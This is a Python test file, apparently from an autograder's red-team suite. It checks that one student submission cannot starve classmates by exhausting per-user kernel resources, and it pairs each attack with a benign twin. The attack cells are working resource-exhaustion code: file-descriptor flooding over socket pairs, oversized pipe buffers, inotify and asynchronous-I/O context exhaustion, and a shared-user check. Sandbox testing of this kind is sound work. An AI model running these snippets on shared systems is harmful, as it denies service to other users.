"""Other students, starved: what the kernel limits by user, used up by one submission.

The twin needs the same thing, a little of it, and is graded beside its attack.
"""

from __future__ import annotations

from autograder.redteam.attack import Attack, Category, Cell, HandedIn, System
from autograder.redteam.attacks.answers import Q1_RIGHT, Q3_RIGHT

CLASS = Category.OTHER_STUDENTS
OURS = frozenset({System.AUTOGRADER})
STARVED = "the work of a classmate fails, because one submission used up what all have together"

ATTACKS = (
    Attack(
        "descriptors-on-their-way", CLASS, STARVED,
        HandedIn(cells=(Cell("""
import array, os, socket, time
def send_all():
    kept = []
    try:
        for _ in range(400):
            pair = socket.socketpair()
            for _ in range(60):
                pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
            kept.append(pair)
    except OSError as error:
        print(error)
    return kept
kept = send_all()
time.sleep(4)
""", "q1"), Cell("import time\ntime.sleep(4.5)", "q2"), Cell("import time\ntime.sleep(4.5)", "q3"))),
        HandedIn({"q3": """
from torch.utils.data import DataLoader, TensorDataset
rows = TensorDataset(torch.arange(12.0))
assert sum(float(part.sum()) for (part,) in DataLoader(rows, batch_size=4, num_workers=2)) == 66
""" + Q3_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "every-page-of-pipes", CLASS, STARVED,
        HandedIn(cells=(Cell("""
import fcntl, os, time
kept = []
try:
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][0], 1031, 1 << 20)  # as large as there are
except OSError as error:
    print(error)
time.sleep(4)
""", "q1"), Cell("import time\ntime.sleep(4.5)", "q2"), Cell("import time\ntime.sleep(4.5)", "q3"))),
        HandedIn({"q1": """
import fcntl, os
out, into = os.pipe()
assert fcntl.fcntl(out, 1032) == 65536, "a small pipe"
fcntl.fcntl(out, 1031, 1 << 20)
""" + Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "every-watch-of-files", CLASS, STARVED,
        HandedIn(cells=(Cell("""
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
print(sum(libc.inotify_init() >= 0 for _ in range(400)))
time.sleep(4)
""", "q1"), Cell("import time\ntime.sleep(4.5)", "q2"), Cell("import time\ntime.sleep(4.5)", "q3"))),
        HandedIn({"q1": "import ctypes\nassert ctypes.CDLL(None).inotify_init() >= 0, 'no watch'\n" + Q1_RIGHT}),
        systems=OURS,
    ),
    Attack(
        "every-asynchronous-operation", CLASS,
        "operations of which the machine has a fixed number are used up for everybody",
        HandedIn(cells=(Cell("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
taken = 0
for _ in range(64):
    context = ctypes.c_ulong(0)
    taken += 1024 * (libc.syscall(206, 1024, ctypes.byref(context)) == 0)
print("redteam-" + "reached" if taken >= 32_768 else taken)
"""),)),
        HandedIn(cells=(Cell("import asyncio\nprint('asynchronous', asyncio.sleep is not None)"),)),
        systems=OURS,
    ),
    Attack(
        "same-user-as-a-classmate", CLASS,
        "two submissions that run at the same time are one user of the machine",
        HandedIn(cells=(Cell("""
import os
users = {line.split()[1] for line in open("/proc/self/uid_map")}
groups = {line.split()[1] for line in open("/proc/self/gid_map")}
print("redteam-" + "reached" if users & {"0", "65534"} or groups & {"0", "65534"} else sorted(users | groups))
"""),)),
        HandedIn(cells=(Cell("import os\nprint(os.getuid())"),)),
        systems=OURS,
    ),
)  # fmt: skip
